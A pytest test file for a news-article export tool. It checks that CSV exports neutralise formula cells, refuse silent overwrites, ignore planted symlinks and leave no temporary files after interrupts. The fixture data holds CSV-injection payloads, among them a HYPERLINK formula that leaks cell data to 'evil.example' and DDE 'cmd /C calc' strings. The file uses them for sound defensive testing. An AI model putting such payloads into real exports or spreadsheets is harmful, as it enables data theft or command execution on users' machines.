"""Export safety: CSV formula injection, no silent overwrite, a temporary file that follows nothing
planted, and no temporary file left by an interrupted export.

Before: a title like '=HYPERLINK(...)' went into the CSV as a live formula, `--output F`
replaced F silently, and the temporary `.F.part` was opened by name, so a symlink planted there
had the export written through it.
"""
from __future__ import annotations

import _thread
import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import readdb
from click.testing import CliRunner

from ingest.cli.read import export_cmd
from ingest.read.export import ExportError, export, neutralise
from ingest.store.sqlite.connection import open_writer as open_db

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {  # title -> what a spreadsheet must show as text
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1 (555) 0100 cmd|' /C calc'!A0": "'+1 (555) 0100 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Plain title = fine": "Plain title = fine",
    " =leading space is text": " =leading space is text",
}


@pytest.fixture
def fx(tmp_path) -> readdb.Fixture:
    fixture = readdb.build(tmp_path / "ingest.db")
    db = open_db(fixture.path)
    db.conn.execute("BEGIN IMMEDIATE")
    for i, title in enumerate(HOSTILE):
        aid = 900 + i
        url = f"https://hostile.example/{i}"
        db.conn.execute("INSERT INTO articles (id, url, canonical_url, final_url, url_key, site, first_seen, last_seen,"
                        " published, current_version, versions, topics) VALUES (?,?,?,?,?,?,?,?,?,1,1,?)",
                        (aid, url, url, url, url, "hostile.example", "2026-11-01T00:00:00+00:00",
                         "2026-11-01T00:00:00+00:00", "2026-11-01T00:00:00+00:00", '["x"]'))
        db.conn.execute("INSERT INTO versions (article_id, n, fetched_at, title, text, text_hash, title_hash, change,"
                        " author) VALUES (?,1,?,?,?,?,?,'first',?)",
                        (aid, "2026-11-01T00:00:00+00:00", title, "-text starting with a minus", f"h{i}", f"t{i}",
                         "@author"))
    db.conn.execute("COMMIT")
    db.conn.close()
    return fixture


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read(path: Path) -> str:
    """The file's text as written (no newline translation: a CR inside a cell stays a CR)."""
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


def test_formula_cells_are_neutralised_by_default(fx, tmp_path):
    out = tmp_path / "a.csv"
    export(fx.path, out, "csv")
    rows = {r["url"]: r for r in csv_rows(read(out))}
    for i, shown in enumerate(HOSTILE.values()):
        row = rows[f"https://hostile.example/{i}"]
        assert row["title"] == shown
        assert row["text"] == "'-text starting with a minus" and row["author"] == "'@author"
        assert row["version"] == "1" and row["id"] == str(900 + i)  # numbers are not touched
    # ordinary articles come out as before (their cells start with letters, digits, [ or {)
    assert rows[fx.urls["bridge"]]["text"] == readdb.BRIDGE_V3
    assert json.loads(rows[fx.urls["bridge"]]["feeds"]) == sorted([readdb.FEED_NEWS, readdb.FEED_WIRE])


def test_csv_raw_keeps_the_stored_values_and_jsonl_is_never_changed(fx, tmp_path):
    out = tmp_path / "raw.csv"
    export(fx.path, out, "csv", csv_raw=True)
    titles = {r["title"] for r in csv_rows(read(out))}
    assert set(HOSTILE) <= titles
    buf = io.StringIO()
    export(fx.path, buf, "jsonl")
    assert set(HOSTILE) <= {json.loads(line)["title"] for line in buf.getvalue().splitlines()}


def test_neutralise():
    assert [neutralise(c) for c in ("=1", "+1", "-1", "@a", "\t1", "\r1", "1", "", "a=b", "'=1")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "1", "", "a=b", "'=1"]


def test_cli_csv_raw_and_force(fx, tmp_path):
    runner = CliRunner()
    out = tmp_path / "x.csv"
    res = runner.invoke(export_cmd, ["--db", str(fx.path), "--format", "csv", "-o", str(out)])
    assert res.exit_code == 0, res.output
    assert "'=HYPERLINK" in read(out)
    res = runner.invoke(export_cmd, ["--db", str(fx.path), "--format", "csv", "--csv-raw", "-o", str(out)])
    assert res.exit_code == 1 and res.stderr.strip() == f"ingest: {out} exists (--force to overwrite it)"
    assert "'=HYPERLINK" in read(out)  # untouched
    res = runner.invoke(export_cmd, ["--db", str(fx.path), "--format", "csv", "--csv-raw", "--force", "-o", str(out)])
    assert res.exit_code == 0, res.output
    assert set(HOSTILE) <= {r["title"] for r in csv_rows(read(out))}
    res = runner.invoke(export_cmd, ["--db", str(fx.path), "--csv-raw"])
    assert res.exit_code == 2 and "--csv-raw applies to --format csv only" in res.output


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_an_existing_output_is_refused_without_force(fx, tmp_path, fmt):
    out = tmp_path / f"keep.{fmt}"
    out.write_text("precious")
    with pytest.raises(ExportError, match=r"exists \(--force to overwrite it\)$"):
        export(fx.path, out, fmt)
    assert out.read_text() == "precious"
    assert export(fx.path, out, fmt, force=True) == fx.n_articles + len(HOSTILE)
    assert out.read_bytes() != b"precious"
    assert not list(tmp_path.glob(".*.part"))


def test_a_dangling_symlink_counts_as_existing(fx, tmp_path):
    out = tmp_path / "link.csv"
    out.symlink_to(tmp_path / "nowhere")
    with pytest.raises(ExportError, match="exists"):
        export(fx.path, out, "csv")
    assert out.is_symlink() and not (tmp_path / "nowhere").exists()


def test_a_planted_part_symlink_is_never_followed(fx, tmp_path):
    """Someone who can write the output directory plants `.out.csv.part` -> a file of the victim's.
    The export writes neither through it nor over it; the victim's file is unchanged."""
    victim = tmp_path / "victim" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("echo safe\n")
    outdir = tmp_path / "shared"
    outdir.mkdir()
    planted = outdir / ".out.csv.part"
    planted.symlink_to(victim)
    out = outdir / "out.csv"
    assert export(fx.path, out, "csv") == fx.n_articles + len(HOSTILE)
    assert victim.read_text() == "echo safe\n"
    assert planted.is_symlink() and os.readlink(planted) == str(victim)
    assert out.is_file() and not out.is_symlink() and read(out).startswith("id,url,")
    assert sorted(p.name for p in outdir.iterdir()) == [".out.csv.part", "out.csv"]  # no temporary left


def test_force_replaces_a_symlink_at_the_output_instead_of_writing_through_it(fx, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "out.jsonl"
    out.symlink_to(victim)
    export(fx.path, out, "jsonl", force=True)
    assert victim.read_text() == "keep me"
    assert not out.is_symlink() and read(out).startswith("{")


def test_the_file_gets_the_usual_mode(fx, tmp_path):
    old = os.umask(0o022)
    try:
        out = tmp_path / "m.csv"
        export(fx.path, out, "csv")
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o644


@pytest.fixture(scope="module")
def big(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("big") / "big.db"
    readdb.build(path)
    db = open_db(path)
    readdb.add_synthetic(db.conn, 20_000, words=250)
    db.conn.close()
    return path


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_keyboard_interrupt_leaves_no_temporary_file(big, tmp_path, fmt):
    """A real KeyboardInterrupt (as Ctrl-C raises it) in the middle of an export."""
    out = tmp_path / f"big.{fmt}"
    started = threading.Event()

    def interrupt_when_writing():
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not list(tmp_path.glob(".*.part")):
            time.sleep(0.005)
        started.set()
        _thread.interrupt_main()

    threading.Thread(target=interrupt_when_writing, daemon=True).start()
    with pytest.raises(KeyboardInterrupt):
        export(big, out, fmt)
        time.sleep(30)  # finished before the interrupt came: wait for it (bounded)
    assert started.is_set()
    assert list(tmp_path.iterdir()) == []  # neither the temporary file nor a half output


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_cli_stopped_by_a_signal_leaves_nothing(big, tmp_path, sig):
    out = tmp_path / "big.csv"
    proc = subprocess.Popen([sys.executable, "-m", "ingest", "export", "--db", str(big), "--format", "csv",
                             "-o", str(out)], cwd=tmp_path, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        deadline = time.monotonic() + 60
        while not list(tmp_path.glob(".*.part")) and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        assert proc.poll() is None, "the export finished before it could be interrupted"
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 128 + sig, (proc.returncode, err)
    assert err.strip() == f"ingest: export interrupted by {signal.Signals(sig).name}; {out} not written"
    assert list(tmp_path.iterdir()) == []
